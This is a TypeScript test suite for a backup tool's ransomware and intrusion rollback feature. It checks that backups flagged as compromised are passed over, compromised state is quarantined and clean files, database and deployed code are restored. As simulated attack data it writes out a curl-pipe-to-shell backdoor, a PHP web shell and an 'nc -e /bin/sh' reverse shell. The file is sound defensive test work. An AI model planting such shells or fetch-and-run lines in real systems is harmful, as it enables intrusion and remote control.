/**
 * `rollback attack` (issue 6) on real files and a real SQLite database: a ransomware run that starts before it is
 * noticed (its first backup lies before --compromised-at and is passed over because the scan flags it), then the
 * rollback: the compromised state quarantined, the files put back exactly (encrypted copies and the ransom note gone),
 * the database back to the same point, all journaled.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile, rename, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import Database from 'better-sqlite3';
import { hashTree, runCli, tempDir, writeTree } from './helpers.js';
import { encryptHead, realisticFile } from '../src/scan/testing.js';

function documents(n = 30): Record<string, string> {
  const files: Record<string, string> = {};
  const kinds = ['text', 'json', 'csv'] as const;
  for (let i = 0; i < n; i++) files[`${['docs', 'exports', 'config'][i % 3]}/item-${i}.${['txt', 'json', 'csv'][i % 3]}`] = realisticFile(kinds[i % 3]!, 4000 + ((i * 7919) % 40_000), 900 + i);
  return files;
}

const json = (stdout: string, type: string): Record<string, unknown>[] =>
  stdout.split('\n').filter((l) => l.startsWith('{')).map((l) => JSON.parse(l) as Record<string, unknown>).filter((e) => e.message_type === type);

test('rollback attack: passes over the flagged backups, quarantines, restores files exactly and the database to the same point', async () => {
  const t = await tempDir();
  try {
    const app = join(t.path, 'app');
    await writeTree(app, documents());
    const db = join(t.path, 'orders.db');
    const d = new Database(db);
    d.exec('create table orders (id integer primary key, item text);');
    const ins = d.prepare('insert into orders (item) values (?)');
    for (let i = 0; i < 200; i++) ins.run(`item ${i}`);
    d.close();
    const config = join(t.path, 'safepoint.yaml');
    await writeFile(config, `version: 1
project: shop
repositories:
  main: { targets: [ ${join(t.path, 'repo')} ] }
sources:
  - name: app
    type: files
    repository: main
    paths: [ ${app} ]
  - name: orders
    type: sqlite
    repository: main
    path: ${db}
`);
    const cli = (args: string[]): ReturnType<typeof runCli> => runCli([...args, '--config', config]);
    const backup = async (s: string): Promise<void> => assert.equal((await cli(['backup', '--source', s])).code, 0);
    assert.equal((await cli(['init', '--repo', 'main'])).code, 0);
    await backup('app');
    await backup('orders');
    await writeFile(join(app, 'docs/item-0.txt'), realisticFile('text', 9000, 5));
    await backup('app');
    const clean = await hashTree(app);
    await sleep(1100);

    // the attack starts: half the files get their head encrypted and a new extension, a note appears, rows go
    const names = Object.keys(documents()).sort();
    const encrypt = async (which: readonly string[]): Promise<void> => {
      for (const [i, rel] of which.entries()) {
        const p = join(app, rel);
        await writeFile(p, encryptHead(await readFile(p), 4096, i + 1));
        await rename(p, `${p}.locked`);
      }
    };
    await encrypt(names.slice(0, 15));
    await writeFile(join(app, 'README_TO_DECRYPT.txt'), 'your files are encrypted\n');
    const bad = new Database(db);
    bad.exec('delete from orders where id > 10');
    bad.close();
    await backup('app');
    await backup('orders');
    await sleep(1100);
    const noticed = new Date().toISOString();
    await sleep(1100);
    await encrypt(names.slice(15));
    await backup('app');

    const dry = await cli(['rollback', 'attack', '--compromised-at', noticed, '--dry-run', '--json']);
    assert.equal(dry.code, 0, dry.stderr);
    const points = json(dry.stdout, 'clean_point');
    assert.deepEqual(points.map((p) => p.source), ['app', 'orders']);
    assert.equal(points[0]!.immutability, 'none');
    assert.match(dry.stderr, /^warning: app: repository main is neither append-only nor under Object Lock/m);
    const appRejected = points[0]!.rejected as { why: string }[];
    assert.equal(appRejected.length, 2);
    assert.match(appRejected[0]!.why, /^finished after the compromise/);
    assert.match(appRejected[1]!.why, /^flagged by the anomaly scan/);
    assert.match((points[1]!.rejected as { why: string }[])[0]!.why, /^flagged by the anomaly scan .*rows/);
    assert.notDeepEqual(await hashTree(app), clean, 'the dry run changed nothing');

    const refused = await cli(['rollback', 'attack', '--compromised-at', noticed]);
    assert.equal(refused.code, 2);
    assert.match(refused.stderr, /confirm with --force \(no terminal to ask on\)$/m);

    const r = await cli(['rollback', 'attack', '--compromised-at', noticed, '--force', '--json']);
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(await hashTree(app), clean, 'the files are exactly the clean state: encrypted copies and the note are gone');
    const after = new Database(db, { readonly: true });
    assert.equal((after.prepare('select count(*) as n from orders').get() as { n: number }).n, 200);
    after.close();
    const summary = json(r.stdout, 'summary').at(-1)!;
    const quarantined = summary.quarantined as { source: string; id: string }[];
    assert.deepEqual(quarantined.map((q) => q.source), ['app', 'orders']);
    const restored = summary.restored as { removed: number; removed_examples: string[] }[];
    assert.equal(restored[0]!.removed, 31);
    assert.ok(restored[0]!.removed_examples.includes('README_TO_DECRYPT.txt'));

    // the evidence is kept: the quarantine snapshot holds the note
    const ls = await cli(['ls', quarantined[0]!.id, '--repo', 'main']);
    assert.match(ls.stdout, /README_TO_DECRYPT\.txt/);
    const j = await cli(['journal', '--json', '--verify']);
    assert.equal(j.code, 0, j.stderr);
    assert.deepEqual(json(j.stdout, 'journal_entry').filter((e) => e.operation === 'rollback-attack').map((e) => [e.operation, e.source, e.result]), [['rollback-attack', 'app', 'ok'], ['rollback-attack', 'orders', 'ok']]);

    const early = await cli(['rollback', 'attack', '--compromised-at', '2000-01-01T00:00:00Z', '--force']);
    assert.equal(early.code, 1);
    assert.match(early.stderr, /^error: source app has no clean backup before 2000-01-01T00:00:00\.000Z: .*nothing was changed$/m);
  } finally {
    await t.cleanup();
  }
});

test('rollback attack with deploy: the code goes back to the clean restore point\'s commit, checked out from its git bundle', async (t) => {
  const { gitProject } = await import('./git-project.js');
  const { readlink } = await import('node:fs/promises');
  const p = await gitProject(t, { deploy: ['health: { command: "true", timeout: 5s }'] });
  const current = join(p.root, 'current');
  await sleep(1100);
  const first = await p.cli('deploy', '--json');
  assert.equal(first.code, 0, first.stderr + first.stdout);
  const cleanCommit = (await p.git('rev-parse', 'HEAD')).trim();
  assert.equal((await p.cli('backup', '--source', 'sessions')).code, 0);
  await sleep(1100);
  const noticed = new Date().toISOString();
  await sleep(1100);
  // the attacker pushes a backdoor and deploys it
  await writeFile(join(p.dir, 'app.js'), 'require("child_process").exec("curl evil.invalid | sh")\n');
  await p.git('commit', '-q', '-am', 'backdoor');
  await sleep(1100);
  assert.equal((await p.cli('deploy')).code, 0);
  assert.match(await readFile(join(current, 'app.js'), 'utf8'), /evil/);

  const r = await p.cli('rollback', 'attack', '--compromised-at', noticed, '--force', '--json');
  assert.equal(r.code, 0, r.stderr + r.stdout);
  assert.equal(await readFile(join(current, 'app.js'), 'utf8'), 'console.log("v1")\n');
  const releases = (await p.cli('releases', '--json')).stdout.trim().split('\n').map((l) => JSON.parse(l) as { id: string; commit: string; live: boolean });
  const live = releases.find((x) => x.live)!;
  assert.equal(live.commit, cleanCommit);
  assert.equal(live.id, (await readlink(current)).split('/').at(-1));
  assert.equal(releases.length, 3, 'a new release from the bundle; the compromised one stays on disk as evidence');
  assert.match(r.stdout, /"message_type":"step".*deploy the clean point's revision from its git bundle.*"status":"success"/);
});

test('rollback attack puts back only what the source covers: excluded files and what the audit does not list stay, and are kept in quarantine; a repository inside a path and unknown --accept ids are refused', async () => {
  const t = await tempDir();
  try {
    const site = join(t.path, 'site');
    await writeTree(site, {
      'public/index.html': '<h1>shop</h1>\n',
      'public/app.js': 'console.log("shop")\n'.repeat(20),
      'logs/access.log': 'GET / 200\n',
      'public/node_modules/dep/index.js': 'module.exports = 1\n',
      'docs/audit.md': '- Project root: `..`\n\n### Configuration\n\n| path | why |\n|---|---|\n| `config/` | config |\n',
      'config/app.yaml': 'port: 8080\n',
      'src/index.js': 'start()\n',
    });
    const config = join(t.path, 'safepoint.yaml');
    const yaml = (repo: string): string => `version: 1
project: shop
repositories:
  main: { targets: [ ${repo} ] }
sources:
  - name: web
    type: files
    repository: main
    paths: [ ${join(site, 'public')}, ${join(site, 'logs')} ]
    exclude: [ "**/*.log", "**/node_modules" ]
  - name: conf
    type: files
    repository: main
    from_audit: ${join(site, 'docs', 'audit.md')}
`;
    await writeFile(config, yaml(join(t.path, 'repo')));
    const cli = (...args: string[]): ReturnType<typeof runCli> => runCli([...args, '--config', config]);
    assert.equal((await cli('init', '--repo', 'main')).code, 0);
    for (const s of ['web', 'conf']) assert.equal((await cli('backup', '--source', s)).code, 0);
    await sleep(1100);
    const noticed = new Date().toISOString();
    await sleep(1100);
    // the attack: a defaced page, a web shell, a tampered log, an implanted dependency, a changed config, a new script
    await writeFile(join(site, 'public/index.html'), '<h1>hacked</h1>\n');
    await writeFile(join(site, 'public/shell.php'), '<?php system($_GET["c"]); ?>\n');
    await writeFile(join(site, 'logs/access.log'), 'GET / 200\nGET /shell.php?c=id 200\n');
    await writeFile(join(site, 'public/node_modules/dep/evil.js'), 'steal()\n');
    await writeFile(join(site, 'config/app.yaml'), 'port: 8080\nadmin: open\n');
    await writeFile(join(site, 'config/backdoor.sh'), 'nc -e /bin/sh evil 4444\n');
    await writeFile(join(site, 'src/index.js'), 'start() // edited by the team, not backed up by these sources\n');

    for (const [accept, message] of [['zz', /^error: --accept "zz": give at least 4 characters/m], ['abcdef12', /^error: --accept abcdef12: no such snapshot/m]] as const) {
      const bad = await cli('rollback', 'attack', '--compromised-at', noticed, '--accept', accept, '--dry-run');
      assert.equal(bad.code, 2, bad.stderr);
      assert.match(bad.stderr, message);
    }
    const dry = await cli('rollback', 'attack', '--compromised-at', noticed, '--dry-run', '--json');
    assert.equal(dry.code, 0, dry.stderr);
    const plan = json(dry.stdout, 'in_place_plan').map((p) => [p.path, p.remove]);
    assert.deepEqual(plan, [[join(site, 'public'), ['shell.php']], [join(site, 'logs'), []], [site, ['config/backdoor.sh']]]);

    const r = await cli('rollback', 'attack', '--compromised-at', noticed, '--force', '--json');
    assert.equal(r.code, 0, r.stderr);
    const read = (rel: string): Promise<string> => readFile(join(site, rel), 'utf8');
    assert.equal(await read('public/index.html'), '<h1>shop</h1>\n');
    await assert.rejects(read('public/shell.php'));
    assert.equal(await read('config/app.yaml'), 'port: 8080\n');
    await assert.rejects(read('config/backdoor.sh'));
    // outside the sources' scope: untouched
    assert.match(await read('logs/access.log'), /shell\.php/);
    assert.equal(await read('public/node_modules/dep/evil.js'), 'steal()\n');
    assert.match(await read('src/index.js'), /edited by the team/);
    assert.equal(await read('docs/audit.md').then((x) => x.length > 0), true);
    // what was moved out is kept beside the path, and the quarantine snapshot holds everything, excludes ignored
    const summary = json(r.stdout, 'summary').at(-1)!;
    const kept = (summary.restored as { path: string; kept_in: string | null }[]).find((x) => x.path === join(site, 'public'))!.kept_in!;
    assert.equal(await readFile(join(kept, 'public', 'shell.php'), 'utf8'), '<?php system($_GET["c"]); ?>\n');
    const q = (summary.quarantined as { source: string; id: string }[]).find((x) => x.source === 'web')!;
    const ls = await cli('ls', q.id, '--repo', 'main');
    assert.match(ls.stdout, /access\.log/);
    assert.match(ls.stdout, /evil\.js/);

    // a repository inside a path the rollback puts back is refused before anything changes
    await writeFile(config, yaml(join(site, 'public', '.backups')));
    const inside = await cli('rollback', 'attack', '--compromised-at', noticed, '--force');
    assert.equal(inside.code, 2);
    assert.match(inside.stderr, /^error: a repository target \(.*\.backups\) lies inside .*public, which source web puts back: move the repository out of the backed-up folders first; nothing was changed$/m);
  } finally {
    await t.cleanup();
  }
});
